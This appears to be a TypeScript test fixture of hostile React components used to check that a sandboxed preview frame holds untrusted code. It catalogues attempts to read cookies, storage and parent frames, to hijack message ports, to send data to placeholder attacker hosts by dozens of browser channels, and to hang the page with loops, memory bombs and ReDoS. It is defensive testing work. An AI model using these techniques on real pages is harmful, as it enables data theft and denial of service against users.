/**
 * Components that try to get out, each one way. `EVIL` stands for an address that counts who connects, `HOST` for a name that
 * is looked for in the browser's log of its network, `STUN` for a counted port of UDP. `reads(what, get)` says on the console
 * what it got hold of.
 */
export type Hostile = { name: string; jsx: string };

const component = (body: string, draw = "null") => `
import React, { useEffect } from "react";
const reads = (what, get) => { try { const got = get(); console.log("READ", what, String(got).slice(0, 80)); } catch (error) { console.log("REFUSED", what); } };
const tries = (what, act) => { try { const got = act(); if (got && got.then) got.then(() => console.log("DID", what), () => console.log("REFUSED", what)); } catch (error) { console.log("REFUSED", what); } };
export default function Hostile() {
  useEffect(() => { ${body} }, []);
  return <div><p id="mark">drawn</p>{${draw}}</div>;
}`;
const hostile = (name: string, body: string, draw?: string): Hostile => ({ name, jsx: component(body, draw) });
const insert = (markup: string) =>
  `const box = document.createElement("div"); document.body.append(box); box.innerHTML = ${JSON.stringify(markup)};`;

export const READERS: Hostile[] = [
  hostile(
    "cookies",
    `reads("cookie", () => document.cookie); tries("set cookie", () => { document.cookie = "stolen=1"; return Promise.reject(); });`,
  ),
  hostile(
    "storage of the page",
    `reads("storage", () => { const text = JSON.stringify({ ...localStorage, ...sessionStorage }); if (text === "{}") throw new Error(); return text; });
     reads("caches", () => caches.open("x")); reads("cookieStore", () => cookieStore.getAll());
     try { const open = indexedDB.open("lectern"); open.onsuccess = () => console.log("READ", "indexedDB"); } catch { console.log("REFUSED", "indexedDB"); }
     tries("opfs", () => navigator.storage.getDirectory());`,
  ),
  hostile(
    "parent, top, opener, frameElement",
    `for (const [name, other] of [["parent", parent], ["top", top], ["frames", parent.frames[0]]]) {
       reads(name + ".document", () => other.document.title); reads(name + ".location", () => other.location.href);
       reads(name + ".localStorage", () => other.localStorage.length); reads(name + ".sealed", () => other.sealed);
     }
     if (window.opener) console.log("READ", "opener"); if (window.frameElement) console.log("READ", "frameElement");`,
  ),
  hostile(
    "a frame of its own for a fresh set of globals",
    `for (const make of [() => document.createElement("iframe"), () => document.createElementNS("http://www.w3.org/1999/xhtml", "h:iframe"), () => { const d = document.createElement("div"); d.innerHTML = "<iframe srcdoc='<p>x'></iframe>"; return d.firstChild; }, () => { const d = new DOMParser().parseFromString("<object data='about:blank'></object><embed><iframe></iframe>", "text/html"); return document.adoptNode(d.body.firstChild); }]) {
       const frame = make(); document.body.append(frame);
       reads("globals of " + frame.localName, () => frame.contentWindow.RTCPeerConnection || frame.contentWindow.fetch);
     }
     if (frames.length > 0) console.log("READ", "frames");`,
  ),
  hostile(
    "the port, by prototypes",
    `const steal = (where) => function stolen() { console.log("READ", "port by " + where, this); return true; };
     for (const name of ["postMessage", "start", "close"]) MessagePort.prototype[name] = steal(name);
     Object.defineProperty(MessageEvent.prototype, "ports", { get() { console.log("READ", "ports"); return []; } });
     Object.defineProperty(MessageEvent.prototype, "data", { get() { console.log("READ", "data"); return { type: "picture" }; } });
     Object.defineProperty(Object.prototype, "type", { set(value) { if (value === "pong") console.log("READ", "message"); }, get() { return undefined; }, configurable: true });
     Function.prototype.call = steal("call"); Function.prototype.apply = steal("apply"); Reflect.apply = steal("Reflect.apply"); document.createElement("p"); document.body.innerHTML += "";
     EventTarget.prototype.addEventListener = steal("addEventListener");
     addEventListener.call; Array.prototype.push = function (...all) { for (const each of all) if (each instanceof MessagePort) console.log("READ", "port in push"); };
     Array.prototype[Symbol.iterator] = (function (real) { return function* () { for (let i = 0; i < this.length; i++) { if (this[i] instanceof MessagePort) console.log("READ", "port iterated"); yield this[i]; } }; })();
     Promise.prototype.then = (function (real) { return function (...all) { return Reflect.apply2 ? undefined : real; }; })();`,
  ),
  hostile(
    "the port, by listening first",
    `window.onmessage = (event) => console.log("READ", "message", event.ports.length);
     Event.prototype.stopImmediatePropagation = () => {};
     window.addEventListener("message", (event) => console.log("READ", "message", event.ports.length), true);
     try { document.open(); document.write("<p>again</p>"); document.close(); } catch {}
     window.addEventListener("message", (event) => console.log("READ", "message", event.ports.length), true);
     try { Error.prepareStackTrace = (_, sites) => { for (const site of sites) if (site.getFunction() || site.getThis()) console.log("READ", "a function of the frame"); return ""; }; void new Error().stack; console.log("x"); } catch {}
     try { if (start.caller || arguments.callee) console.log("READ", "caller"); } catch {}`,
  ),
  hostile(
    "code from text",
    `reads("eval", () => eval("1")); reads("Function", () => new Function("return 1")()); reads("constructor", () => (() => {}).constructor("return 1")());
     reads("async constructor", () => (async () => {}).constructor("return 1")().then); reads("setTimeout text", () => { setTimeout("console.log('READ', 'text ran')", 0); throw new Error(); });
     const script = document.createElement("script"); try { script.text = "console.log('READ', 'script ran')"; document.body.append(script); } catch {}
     try { document.body.setAttribute("onclick", "console.log('READ', 'attribute ran')"); document.body.click(); } catch {}
     try { const div = document.createElement("div"); div.innerHTML = "<img src=x onerror=\\"console.log('READ','onerror ran')\\"><svg onload=\\"console.log('READ','onload ran')\\">"; document.body.append(div); } catch {}
     try { location.href = "javascript:console.log('READ','javascript ran')"; } catch {}`,
  ),
  hostile(
    "forged messages",
    `for (const target of [parent, top]) for (const message of [{ lectern: "connect" }, { type: "picked", element: { selector: "x", path: [], tag: "x", text: "FORGED", box: { x: 0, y: 0, width: 1, height: 1 } } }, { type: "console", level: "log", text: "FORGED" }, "FORGED"]) {
       target.postMessage(message, "*"); const channel = new MessageChannel(); target.postMessage(message, "*", [channel.port2]);
     }
     window.postMessage({ lectern: "connect", props: { forged: true } }, "*", [new MessageChannel().port2]);
     window.dispatchEvent(new MessageEvent("message", { data: { lectern: "connect" }, source: parent, ports: [new MessageChannel().port2] }));
     document.querySelector("#mark").dispatchEvent(new MouseEvent("click", { bubbles: true, detail: 1 }));`,
  ),
];

export const SENDERS: Hostile[] = [
  hostile(
    "fetch",
    `tries("fetch", () => fetch("EVIL/f")); tries("keepalive", () => fetch("EVIL/k", { keepalive: true, mode: "no-cors" })); tries("later", () => fetchLater("EVIL/l"));
     tries("prototype", () => Object.getPrototypeOf(window).fetch("EVIL/p")); tries("Window", () => Window.prototype.fetch.call(window, "EVIL/w")); fetch("http://HOST/").catch(() => {});`,
  ),
  hostile("XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", "EVIL/x"); x.send();`),
  hostile(
    "WebSocket, EventSource, WebTransport",
    `for (const [what, make] of [["WebSocket", () => new WebSocket("ws://HOST/")], ["EventSource", () => new EventSource("EVIL/e")], ["WebTransport", () => new WebTransport("https://HOST/")], ["WebSocketStream", () => new WebSocketStream("ws://HOST/")]]) tries(what, make);`,
  ),
  hostile(
    "beacon",
    `navigator.sendBeacon("EVIL/b", "x"); try { Navigator.prototype.sendBeacon.call(navigator, "EVIL/b2", "x"); } catch {}`,
  ),
  hostile(
    "pictures",
    `new Image().src = "EVIL/i"; new Image().srcset = "EVIL/i2 2x"; ${insert('<img src="EVIL/3"><picture><source srcset="EVIL/4"><img src="EVIL/5"></picture><input type="image" src="EVIL/6"><svg><image href="EVIL/7"/><use href="EVIL/8#a"/><feImage href="EVIL/9"/></svg><body background="EVIL/10"><table background="EVIL/11">')}`,
    `<img src="EVIL/j" alt="" />`,
  ),
  hostile(
    "sound and film",
    insert('<video src="EVIL/v" autoplay poster="EVIL/p"></video><audio src="EVIL/a" autoplay></audio><track src="EVIL/t">') +
      `new Audio("EVIL/n").play().catch(() => {});`,
  ),
  hostile(
    "fonts",
    `new FontFace("Evil", "url(EVIL/font)").load().catch(() => {}); const s = document.createElement("style"); s.textContent = "@font-face{font-family:E;src:url(EVIL/f2)} body{font-family:E}"; document.head.append(s);`,
  ),
  hostile(
    "CSS url() and @import",
    `const s = document.createElement("style"); s.textContent = "@import 'EVIL/i'; @import url(http://HOST/i); body{background:url(EVIL/u);cursor:url(EVIL/c),auto;mask:url(EVIL/m);filter:url(EVIL/f#x);list-style-image:url(EVIL/l)} #mark::before{content:url(EVIL/b)} @namespace url(EVIL/n);"; document.head.append(s);
     document.body.style.backgroundImage = "image-set('EVIL/set' 1x)"; tries("sheet", () => { const sheet = new CSSStyleSheet(); sheet.replaceSync("body{border-image:url(EVIL/sheet) 1}"); document.adoptedStyleSheets = [sheet]; return Promise.reject(); });`,
  ),
  ...[
    "preconnect",
    "dns-prefetch",
    "prefetch",
    "preload",
    "modulepreload",
    "stylesheet",
    "prerender",
    "icon",
    "manifest",
    "preconnect dns-prefetch",
  ].map((rel) =>
    hostile(
      `<link rel=${rel}>`,
      `for (const address of ["EVIL/l", "http://HOST/l"]) {
         const set = (link) => { try { link.setAttribute("rel", "${rel}"); link.setAttribute("as", "image"); link.setAttribute("href", address); document.head.append(link); } catch {} };
         set(document.createElement("link")); set(document.createElement("LINK")); set(document.createElementNS("http://www.w3.org/1999/xhtml", "link")); set(document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"));
         try { set(Document.prototype.createElement.call(document, "link")); } catch {}
         try { set(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link", null).documentElement); } catch {}
         try { set(document.implementation.createHTMLDocument("").createElement("link")); } catch {}
         const markup = '<link rel="${rel}" as="image" href="' + address + '">';
         for (const put of [(d) => { d.innerHTML = markup; }, (d) => d.insertAdjacentHTML("beforeend", markup), (d) => d.setHTMLUnsafe(markup), (d) => d.setHTML(markup, { sanitizer: { elements: [{ name: "link", attributes: ["rel", "href", "as"] }] } }), (d) => d.append(Document.parseHTML(markup, { sanitizer: { elements: [{ name: "link", attributes: ["rel", "href"] }] } }).querySelector("link")), (d) => d.append(document.createRange().createContextualFragment(markup)),
           (d) => d.append(document.adoptNode(new DOMParser().parseFromString(markup, "text/html").querySelector("link"))),
           (d) => d.append(document.adoptNode(new DOMParser().parseFromString('<x:link xmlns:x="http://www.w3.org/1999/xhtml" rel="${rel}" href="' + address + '"/>', "application/xml").documentElement)),
           (d) => d.append(document.adoptNode(new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;link xmlns=\\'http://www.w3.org/1999/xhtml\\' rel=\\'${rel}\\' href=\\'' + address + '\\'/>">]><x>&e;</x>', "application/xml").documentElement)),
           (d) => { d.attachShadow({ mode: "open" }).innerHTML = markup; }, () => document.write(markup), () => document.execCommand("insertHTML", false, markup),
           (d) => { class Evil extends HTMLLinkElement {} customElements.define("x-" + Math.random().toString(36).slice(2), Evil, { extends: "link" }); const link = new Evil(); link.rel = "${rel}"; link.href = address; d.append(link); },
           (d) => { RegExp.prototype[Symbol.replace] = (text) => text; RegExp.prototype.exec = () => null; String.prototype.replace = function () { return String(this); }; d.innerHTML = markup; },
           (d) => { const t = document.createElement("template"); t.innerHTML = markup; d.append(t.content.cloneNode(true)); }]) {
           const d = document.createElement("div"); document.body.append(d); try { put(d); } catch {}
         }
       }`,
      `<link rel="${rel}" as="image" href="EVIL/react" />`,
    ),
  ),
  hostile("React’s own resource hints", `import("react-dom").catch(() => {});`, `null`),
  hostile(
    "meta refresh",
    `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=EVIL/m"; document.head.append(m); ${insert('<meta http-equiv="refresh" content="0;url=EVIL/m2">')}`,
    `<meta httpEquiv="refresh" content="0;url=EVIL/m3" />`,
  ),
  hostile("base", insert('<base href="EVIL/"><img src="b">')),
  hostile(
    "Link header by markup, speculation rules",
    `for (const type of ["speculationrules", "importmap", "module"]) { try { const s = document.createElement("script"); s.type = type; s.textContent = '{"prefetch":[{"source":"list","urls":["EVIL/s","http://HOST/s"]}]}'; document.head.append(s); } catch {} }`,
  ),
  ...(["EVIL/go", "http://HOST/go"] as const).flatMap((address) => [
    hostile(`self-navigation to ${address}`, `location.href = "${address}";`),
    hostile(
      `self-navigation by assign and replace to ${address}`,
      `try { location.assign("${address}"); } catch {} try { location.replace("${address}?2"); } catch {} try { window.navigation.navigate("${address}?3"); } catch {}`,
    ),
    hostile(
      `a link that clicks itself to ${address}`,
      `for (const target of ["", "_blank", "_top", "_parent", "other"]) { const a = document.createElement("a"); a.href = "${address}"; a.target = target; a.ping = "EVIL/ping"; document.body.append(a); a.click(); a.setAttribute("download", "x"); a.click(); a.dispatchEvent(new MouseEvent("click", { ctrlKey: true })); }
       const svg = document.createElementNS("http://www.w3.org/2000/svg", "a"); svg.setAttribute("href", "${address}"); document.body.append(svg); svg.dispatchEvent(new MouseEvent("click", { cancelable: false }));`,
      `<a href="${address}" rel="noreferrer">here</a>`,
    ),
  ]),
  hostile(
    "navigation of those around it",
    `for (const target of [parent, top]) { try { target.location = "EVIL/top"; } catch {} try { target.location.href = "EVIL/top2"; } catch {} } try { open("EVIL/open", "_top"); } catch {} try { open("EVIL/open", "_parent"); } catch {} history.back(); history.go(-1);`,
  ),
  hostile(
    "form post",
    `const f = document.createElement("form"); f.action = "EVIL/form"; f.method = "post"; document.body.append(f); try { f.submit(); } catch {} try { f.requestSubmit(); } catch {} try { HTMLFormElement.prototype.submit.call(f); } catch {}
     f.target = "_top"; try { f.submit(); } catch {} const b = document.createElement("button"); b.formAction = "EVIL/button"; f.append(b); b.click();`,
    `<form action="EVIL/react" method="post"><button>x</button></form>`,
  ),
  hostile(
    "WebRTC",
    `for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection", "mozRTCPeerConnection"]) tries(name, () => { const C = window[name] || Object.getPrototypeOf(window)[name]; const c = new C({ iceServers: [{ urls: "stun:STUN" }, { urls: "turn:STUN?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); return c.createOffer().then((o) => c.setLocalDescription(o)); });
     tries("RTCIceTransport", () => { const t = new RTCIceTransport(); t.gather({ iceServers: [{ urls: "stun:STUN" }] }); return Promise.resolve(); });`,
  ),
  hostile(
    "workers and worklets",
    `const blob = URL.createObjectURL(new Blob(["fetch('EVIL/w')"], { type: "text/javascript" }));
     for (const source of [blob, "data:text/javascript,fetch('EVIL/w2')", "EVIL/w3.js"]) { tries("Worker", () => { new Worker(source); return Promise.resolve(); }); tries("SharedWorker", () => { new SharedWorker(source); return Promise.resolve(); }); tries("serviceWorker", () => navigator.serviceWorker.register(source)); tries("worklet", () => (window.sound ??= new AudioContext()).audioWorklet.addModule(source)); tries("paint", () => CSS.paintWorklet.addModule(source)); }`,
  ),
  hostile(
    "windows and downloads",
    `tries("open", () => { const w = window.open("EVIL/o"); if (w) return Promise.resolve(); return Promise.reject(); }); const a = document.createElement("a"); a.download = "x.txt"; a.href = URL.createObjectURL(new Blob(["x"])); a.click(); tries("fullscreen", () => document.body.requestFullscreen()); tries("pointer lock", () => document.body.requestPointerLock()); print(); if (prompt("x") || confirm("x")) console.log("READ", "dialog");`,
  ),
  hostile(
    "credentials, payment, sharing",
    `tries("fedcm", () => navigator.credentials.get({ identity: { providers: [{ configURL: "https://HOST/c.json", clientId: "1" }] } })); tries("pay", () => new PaymentRequest([{ supportedMethods: "https://HOST/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()); tries("share", () => navigator.share({ url: "EVIL" })); tries("camera", () => navigator.mediaDevices.getUserMedia({ audio: true })); tries("place", () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))); tries("clipboard", () => navigator.clipboard.readText()); tries("presentation", () => new PresentationRequest(["https://HOST/p"]).start()); tries("cast", () => document.createElement("video").remote.prompt()); tries("attribution", () => { const i = new Image(); i.setAttribute("attributionsrc", "EVIL/a"); i.src = "data:,"; return Promise.reject(); });`,
  ),
  hostile(
    "XML and XSLT",
    `try { const doc = new DOMParser().parseFromString('<?xml-stylesheet href="EVIL/x.xsl" type="text/xsl"?><!DOCTYPE a SYSTEM "EVIL/dtd" [<!ENTITY x SYSTEM "EVIL/xxe">]><a>&x;</a>', "text/xml"); document.body.append(document.adoptNode(doc.documentElement)); } catch {} try { document.insertBefore(document.createProcessingInstruction("xml-stylesheet", 'href="EVIL/pi" type="text/css"'), document.firstChild); } catch {}
     try { const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><link rel="preconnect" href="EVIL/xslt"/></xsl:template></xsl:stylesheet>', "text/xml")); document.body.append(x.transformToFragment(document, document)); } catch {}`,
  ),
];

/** Components that never end, or take all there is. The page around them must not feel it. */
export const HOGS: Hostile[] = [
  hostile("while (true)", `while (true) {}`),
  hostile("a loop while it is drawn", ``, `(() => { for (;;) {} })()`),
  hostile("a loop that catches", `for (;;) { try { for (;;) {} } catch {} }`),
  hostile("endless recursion", `const f = () => { try { f(); } finally { f(); } }; f();`),
  hostile("endless promises", `const f = async () => { await 0; return f(); }; f();`),
  hostile("a dialog loop", `for (;;) alert("Hello");`),
  hostile(
    "timers without end",
    `const f = () => { setTimeout(f); setTimeout(f); const until = performance.now() + 500; while (performance.now() < until); }; f();`,
  ),
  hostile("a regular expression", `/^(a+)+$/.test("a".repeat(40) + "b");`),
  hostile(
    "a native sort",
    `const all = Array.from({ length: 3e7 }, (_, i) => (i * 7919) % 30011); for (let i = 0; i < 100; i++) all.sort();`,
  ),
  hostile("a memory bomb", `const all = []; for (;;) all.push(new Array(1e6).fill(Math.random()));`),
  hostile("a text bomb", `"x".repeat(2 ** 27).split("").sort().join("");`),
  hostile("elements without end", `for (;;) document.body.append(document.createElement("div"));`),
  hostile("a console flood", `setInterval(() => { for (let i = 0; i < 2e4; i++) console.log("line", i); }, 50);`),
  hostile("reloading without end", `location.reload();`),
];
